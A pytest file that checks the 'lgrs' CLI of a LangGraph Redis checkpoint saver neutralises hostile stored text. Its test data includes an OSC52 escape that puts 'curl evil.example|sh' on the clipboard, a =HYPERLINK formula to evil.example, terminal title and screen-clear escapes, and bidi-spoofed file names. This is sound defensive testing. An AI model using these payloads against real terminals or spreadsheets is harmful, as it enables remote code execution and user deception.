"""Stored text is attacker-controlled: ``lgrs`` never lets it act on a terminal or a spreadsheet.

The sessions here are written by a real graph through the saver, with escape
sequences, bidi overrides and rich markup in every place a writer controls:
the session id, message contents, tool names and ids, an interrupt payload, a
state field, a node name and run metadata.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Annotated, Any

import pytest
import redis
from click.testing import CliRunner
from langchain_core.messages import AIMessage, AnyMessage, ToolMessage
from langgraph.graph import START, StateGraph
from langgraph.graph.message import add_messages
from langgraph.types import interrupt
from typing_extensions import TypedDict

from langgraph_redis_saver import RedisCheckpointSaver
from langgraph_redis_saver.cli.app import cli
from langgraph_redis_saver.keys import KeySchema
from support.lgrs_sessions import Lgrs

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # puts `curl evil.example|sh` on the clipboard
TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
CSI8 = "\x9b31m"
RLO = "\u202e"
ZWSP = "\u200b"
MARKUP = "[bold red]markup[/bold red]"
EVIL_ID = f"s{TITLE}{RLO}cod.exe{ZWSP}\x7f"
NODE = f"node{CLEAR}"
TOOL = f"tool{TITLE}"
CALL_ID = f"call{RLO}1"
CONTENT = f"hello {OSC52}{CLEAR}{CSI8} {MARKUP}\u2066tail"
QUESTION = f"answer me{TITLE}{MARKUP}"
NOTE = f"note{OSC52}"
USER = f"u{CLEAR}"
FORMULA = '=HYPERLINK("http://evil.example","click")'

UNSAFE = [chr(c) for c in range(0x20) if chr(c) not in "\n\t"] + [chr(c) for c in range(0x7F, 0xA0)]
UNSAFE += ["\u202a", "\u202b", "\u202c", "\u202d", RLO, "\u2066", "\u2067", "\u2068", "\u2069"]
UNSAFE += [ZWSP, "\u200c", "\u200d", "\ufeff"]


class HostileState(TypedDict, total=False):
    messages: Annotated[list[AnyMessage], add_messages]
    note: str


def _speak(state: HostileState) -> dict[str, Any]:
    call = {"name": TOOL, "args": {"text": CONTENT}, "id": CALL_ID}
    return {
        "messages": [
            AIMessage(CONTENT, id="m1", tool_calls=[call], response_metadata={"model_name": TOOL}),
            ToolMessage(FORMULA, tool_call_id=CALL_ID, name=TOOL, id="m2"),
            AIMessage(f"-1+1{CSI8}", id="m3"),
        ],
        "note": NOTE,
    }


def _ask(state: HostileState) -> dict[str, Any]:
    interrupt({"question": QUESTION, "options": [MARKUP, OSC52]})
    return {}


def write_hostile(saver: RedisCheckpointSaver, thread_id: str) -> None:
    builder = StateGraph(HostileState)
    builder.add_node(NODE, _speak)
    builder.add_node("ask", _ask)
    builder.add_edge(START, NODE)
    builder.add_edge(NODE, "ask")
    graph = builder.compile(checkpointer=saver)
    config = {"configurable": {"thread_id": thread_id, "user_id": USER}}
    graph.invoke({"messages": [("user", CONTENT)]}, config)


@pytest.fixture
def hostile(redis_url: str, prefix: str) -> Iterator[Lgrs]:
    with RedisCheckpointSaver.from_url(redis_url, key_prefix=prefix) as saver:
        write_hostile(saver, EVIL_ID)
        yield Lgrs(redis_url, prefix)
        saver.clear_all()


def assert_inert(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in text if c in UNSAFE})
    assert not found, f"raw control/bidi characters reached the output: {found}\n{text!r}"
    assert "\x1b" not in text


def _checkpoints(lgrs: Lgrs) -> list[str]:
    return [r["checkpointId"] for r in json.loads(lgrs("history", EVIL_ID, "--json").stdout)]


def test_every_human_output_is_inert(hostile: Lgrs) -> None:
    ids = _checkpoints(hostile)
    runs = [
        ("sessions",),
        ("sessions", "--user", USER),
        ("show", EVIL_ID),
        ("show", EVIL_ID, "--full"),
        ("history", EVIL_ID),
        ("history", EVIL_ID, "--checkpoint", ids[0]),
        ("history", EVIL_ID, "--diff", ids[-1], ids[0]),
        ("delete", EVIL_ID, "--dry-run"),
        ("delete", "--all", "--dry-run"),
        ("stats",),
        ("doctor",),
    ]
    for args in runs:
        result = hostile(*args)
        assert_inert(result.stdout + result.stderr)
    shown = hostile("show", EVIL_ID).stdout
    assert "\\x1b]52;c;" in shown  # visibly escaped, not dropped
    assert "\\u202e" in shown
    assert MARKUP in shown  # rich markup shown as text, not applied
    assert "\\x1b]0;pwned\\x07" in hostile("sessions").stdout


def test_confirmation_list_is_inert(hostile: Lgrs) -> None:
    result = hostile("delete", EVIL_ID, input="n\n", code=1)
    assert "Aborted" in result.stderr
    assert_inert(result.stdout + result.stderr)
    assert "\\u202e" in result.stderr


def test_errors_quoting_stored_text_are_inert(hostile: Lgrs) -> None:
    result = hostile("show", f"missing{TITLE}{RLO}", code=1)
    assert_inert(result.stderr)
    assert len(result.stderr.strip().splitlines()) == 1
    # Checkpoint ids come from the timeline, which a database writer controls.
    client = redis.Redis.from_url(hostile.url)
    timeline = KeySchema(hostile.prefix).namespace(EVIL_ID, "").timeline
    client.zadd(timeline, {f"zz{TITLE}{RLO}1": 0, f"zz{CLEAR}2": 0})
    client.close()
    result = hostile("history", EVIL_ID, "--checkpoint", "zz", code=1)
    assert "ambiguous" in result.stderr
    assert_inert(result.stderr)
    assert len(result.stderr.strip().splitlines()) == 1


def test_json_output_stays_exact(hostile: Lgrs) -> None:
    raw = hostile("show", EVIL_ID, "--json").stdout
    assert_inert(raw)
    conv = json.loads(raw)
    assert conv["sessionId"] == EVIL_ID
    assert conv["turns"][0]["content"] == CONTENT
    assert conv["turns"][1]["toolCalls"][0]["name"] == TOOL
    assert conv["state"]["note"] == NOTE
    assert conv["pendingInterrupts"][0]["question"] == QUESTION
    (row,) = json.loads(hostile("sessions", "--json").stdout)
    assert row["sessionId"] == EVIL_ID
    doc = json.loads(hostile("export", EVIL_ID).stdout)
    assert doc["turns"][2]["content"] == FORMULA


def test_csv_export_neutralises_formulas(hostile: Lgrs, tmp_path: Path) -> None:
    out = hostile("export", EVIL_ID, "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[2]["content"] == "'" + FORMULA
    assert rows[3]["content"] == f"'-1+1{CSI8}"
    assert rows[1]["content"] == CONTENT  # text that is not a formula stays exact
    raw = hostile("export", EVIL_ID, "--format", "csv", "--raw-csv").stdout
    assert list(csv.DictReader(io.StringIO(raw)))[2]["content"] == FORMULA
    hostile("export", "--all", "-o", str(tmp_path), "--format", "csv")
    (path,) = tmp_path.glob("*.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
    assert rows[2]["content"] == "'" + FORMULA


def test_csv_on_a_terminal_is_inert(hostile: Lgrs, monkeypatch: pytest.MonkeyPatch) -> None:
    from langgraph_redis_saver.cli import output

    monkeypatch.setattr(output, "stdout_is_terminal", lambda: True)
    out = hostile("export", EVIL_ID, "--format", "csv").stdout
    assert_inert(out)
    assert "\\x1b]52;c;" in out


def test_export_summary_and_errors_name_ids_inertly(hostile: Lgrs, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli,
        ["--url", hostile.url, "--prefix", hostile.prefix, "export", "--all", "-o", str(tmp_path)],
    )
    assert result.exit_code == 0, result.output
    assert_inert(result.output)


def test_python_warnings_are_printed_inert(hostile: Lgrs) -> None:
    """Warnings can quote stored data (a class name); they reach stderr as one inert line."""
    import warnings

    import click

    def warn() -> None:
        warnings.simplefilter("always")
        warnings.warn(f"class {TOOL!r} not found{OSC52}", UserWarning, stacklevel=1)

    cli.add_command(click.Command("warn-test", callback=warn))
    try:
        result = hostile("warn-test")
    finally:
        del cli.commands["warn-test"]
    assert_inert(result.stderr)
    assert result.stderr.startswith("warning: class ")
    assert len(result.stderr.strip().splitlines()) == 1
